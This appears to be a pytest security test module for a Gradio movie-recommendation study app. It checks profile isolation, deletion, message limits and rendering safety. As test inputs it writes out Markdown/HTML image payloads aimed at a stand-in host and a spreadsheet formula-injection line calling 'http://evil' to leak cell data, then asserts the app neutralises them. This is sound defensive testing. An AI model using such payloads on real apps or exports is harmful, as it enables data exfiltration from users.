"""The running app attacked as a careless operator and a curious participant would, over HTTP
(``gradio_client``) and in a real browser: name takeover, writes into MovieLens users, other
accounts' profiles, forget while a session is open, huge messages, Markdown and HTML payloads
that would make the browser fetch from another host."""

from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from retrieval.settings import Settings
from tests.test_app import free_port
from tests.test_browser import CHROMIUM, CHROMIUM_ARGS, TIMEOUT_MS, _in_ci, send, wait_idle
from tracking.service import Tracker

pytestmark = pytest.mark.slow


@dataclass
class RunningApp:
    url: str
    services: object
    home: Settings
    study: Path


def _serve(trained_home: Settings, tmp_path_factory: pytest.TempPathFactory, auth=None) -> Iterator[RunningApp]:
    from ui.app import ServeOptions, build_app, launch
    from ui.sessions import AppServices

    home = tmp_path_factory.mktemp("security-home") / "home"
    shutil.copytree(trained_home.home, home)
    settings = trained_home.model_copy(update={"home": home, "llm": "none"})
    study = home / "study"
    services = AppServices.create(settings, study_log=study)
    services.accounts = auth is not None
    demo = build_app(services)
    launched = launch(demo, ServeOptions(port=free_port(), auth=auth), say=lambda _: None)
    yield RunningApp(launched.local_url, services, settings, study)
    demo.close()
    services.close()


@pytest.fixture(scope="module")
def open_app(trained_home: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    yield from _serve(trained_home, tmp_path_factory)


@pytest.fixture(scope="module")
def account_app(trained_home: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    yield from _serve(trained_home, tmp_path_factory, auth=[("ana", "pw-ana"), ("INVITE-7", "INVITE-7")])


def _client(app: RunningApp, auth=None):
    from gradio_client import Client

    return Client(app.url, verbose=False, auth=auth)


def test_typing_someones_name_never_opens_their_profile(open_app: RunningApp):
    owner = _client(open_app)
    first = owner.predict("New profile", "  zelda   QUXWORTH ", "", api_name="/start")[0]
    owner.predict("never horror", api_name="/chat")
    intruder = _client(open_app)
    second = intruder.predict("New profile", "Zelda Quxworth", "", api_name="/start")[0]
    assert second["return_code"] != first["return_code"]
    tracker = open_app.services.tracker
    assert tracker.describe(second["return_code"])["feedback"]["rules"] == {}
    with pytest.raises(Exception, match="no profile has that return code"):
        intruder.predict("Return code", "zelda quxworth", "", api_name="/start")


def test_a_movielens_user_is_never_written(open_app: RunningApp):
    tracker = open_app.services.tracker
    before = tracker.log.events_for("150")
    client = _client(open_app)
    client.predict("MovieLens user", "", "150", api_name="/start")
    view = client.predict("never comedy", api_name="/chat")[0]
    view = client.predict(view["cards"][0]["movie_id"], "dislike", api_name="/react")[0]
    assert tracker.log.events_for("150") == before
    assert view["return_code"] and tracker.describe(view["return_code"])["feedback"]["rules"] == {"genre:Comedy": -1.0}


def test_forget_while_a_session_is_open_ends_it(open_app: RunningApp):
    client = _client(open_app)
    view = client.predict("New profile", "Forget Me", "", api_name="/start")[0]
    view = client.predict("more comedy", api_name="/chat")[0]
    code = view["return_code"]
    elsewhere = Tracker(open_app.home)  # `driftrec forget` from another process
    try:
        elsewhere.forget(code)
    finally:
        elsewhere.close()
    with pytest.raises(Exception, match="deleted"):
        client.predict("more drama", api_name="/chat")
    with pytest.raises(Exception, match="deleted"):
        client.predict(view["cards"][0]["movie_id"], "like", api_name="/react")
    tracker = open_app.services.tracker
    assert tracker.log.count(code) == 0 and tracker.log.profile_versions(code) == []


def test_a_huge_message_is_cut_before_anything_keeps_it(open_app: RunningApp):
    client = _client(open_app)
    client.predict("New profile", "Long Writer", "", api_name="/start")
    huge = "more comedy " + "x" * 1_000_000
    view = client.predict(huge, api_name="/chat")[0]
    assert "read its first 1000 characters" in view["reply"]
    for path in open_app.study.glob("*.jsonl"):
        assert max(len(line) for line in path.read_text().splitlines()) < 200_000


def test_each_signed_in_participant_sees_and_writes_only_their_own_profile(account_app: RunningApp):
    ana = _client(account_app, auth=("ana", "pw-ana"))
    invited = _client(account_app, auth=("INVITE-7", "INVITE-7"))
    view_ana = ana.predict("Return code", "account:INVITE-7", "", api_name="/start")[0]  # asks for another's
    view_inv = invited.predict("MovieLens user", "", "105", api_name="/start")[0]
    assert view_ana["user"] == "ana" and view_inv["user"] == "INVITE-7"
    ana.predict("never horror", api_name="/chat")
    invited.predict("never drama", api_name="/chat")
    tracker = account_app.services.tracker
    assert tracker.describe("account:ana")["feedback"]["rules"] == {"genre:Horror": -1.0}
    assert tracker.describe("account:INVITE-7")["feedback"]["rules"] == {"genre:Drama": -1.0}
    assert tracker.describe("105")["feedback"]["rules"] == {}
    with pytest.raises(Exception):
        _client(account_app, auth=("ana", "wrong"))


# --- in a real browser -----------------------------------------------------------------------------


class _Hits(http.server.BaseHTTPRequestHandler):
    paths: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        _Hits.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def other_host() -> Iterator[str]:
    """A second web server standing for another host: it counts what the page asks of it."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Hits)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_markup_in_names_and_messages_is_shown_not_rendered(open_app: RunningApp, other_host: str):
    if not CHROMIUM.exists():
        if _in_ci():
            pytest.fail(f"{CHROMIUM} is missing in CI")
        pytest.skip(f"{CHROMIUM} not installed")
    from playwright.sync_api import sync_playwright

    tracker = open_app.services.tracker
    # a catalog whose titles carry payloads (as a hostile or careless data file could)
    tracker._titles = [f"{title} ![t]({other_host}/title.png) <img src=\"{other_host}/t.png\">" for title in tracker._titles]
    payloads = [
        f"![x]({other_host}/message.png) more comedy",
        f'<img src="{other_host}/html.png"> less horror',
        f"[click me]({other_host}/link) and <a href=\"{other_host}/a\">this</a>",
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.set_default_timeout(TIMEOUT_MS)
            page.goto(open_app.url)
            page.locator("#start-name textarea, #start-name input").first.fill(f"![n]({other_host}/name.png)")
            page.locator("#start-button").click()
            wait_idle(page)
            page.wait_for_function("document.querySelector('#status') && document.querySelector('#status').innerText.includes('return code')")
            assert "![n](" in page.locator("#status").inner_text()  # the name is shown as typed
            for text in payloads:
                send(page, text)
            page.locator("#card-0-why").click()  # the answer names the title
            wait_idle(page)
            page.locator("#researcher-panel").get_by_text("Researcher panel").click()  # titles in the tables
            page.locator("#panel-breakdown").wait_for()
            for tab in ("Interests", "Agent steps"):
                page.locator("#researcher-panel").get_by_role("tab", name=tab).click()
                wait_idle(page)
            page.wait_for_timeout(1000)
            assert _Hits.paths == [], f"the page fetched from another host: {_Hits.paths}"
            assert page.locator(f"img[src^='{other_host}']").count() == 0
            assert page.locator(f"a[href^='{other_host}']").count() == 0
            chat = page.locator("#chat").inner_text()
            assert "![x]" in chat and "<img" in chat, chat  # shown as typed
            assert "![t](" in page.locator("#card-0-text").inner_text()  # the title too
        finally:
            browser.close()


def test_study_export_neutralises_formula_cells(open_app: RunningApp, tmp_path: Path):
    from ui.study import export_study

    client = _client(open_app)
    client.predict("New profile", "Formula", "", api_name="/start")
    client.predict('=HYPERLINK("http://evil/?"&A1,"click") more comedy', api_name="/chat")
    report = export_study(open_app.study, tmp_path / "export")
    text = report.files["message"].read_text()
    assert '=HYPERLINK' not in text.replace("'=HYPERLINK", "")
    assert "'=HYPERLINK" in text


def test_react_with_no_id_or_text_is_a_clear_error(open_app: RunningApp):
    client = _client(open_app)
    client.predict("New profile", "Button Masher", "", api_name="/start")
    for bad in (None, "abc", 1.5):
        with pytest.raises(Exception) as raised:
            client.predict(bad, "like", api_name="/react")
        assert "Traceback" not in str(raised.value)
    with pytest.raises(Exception, match="movie id"):
        client.predict(None, "like", api_name="/react")


def test_an_idle_session_is_released(trained_home: Settings, tmp_path_factory: pytest.TempPathFactory):
    import time

    from ui.app import ServeOptions, build_app, launch
    from ui.sessions import AppConfig, AppServices

    home = tmp_path_factory.mktemp("idle-home") / "home"
    shutil.copytree(trained_home.home, home)
    settings = trained_home.model_copy(update={"home": home, "llm": "none"})
    services = AppServices.create(settings, config=AppConfig(idle_release_s=2), study_log=home / "study")
    demo = build_app(services)
    launched = launch(demo, ServeOptions(port=free_port()), say=lambda _: None)
    try:
        client = _client(RunningApp(launched.local_url, services, settings, home / "study"))
        client.predict("New profile", "Idle", "", api_name="/start")
        study = next((home / "study").glob("*.jsonl"))
        deadline = time.monotonic() + 30
        while '"ended"' not in study.read_text() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert '"ended": "released"' in study.read_text()
        with pytest.raises(Exception, match="Start a session first"):
            client.predict("more comedy", api_name="/chat")
    finally:
        demo.close()
        services.close()
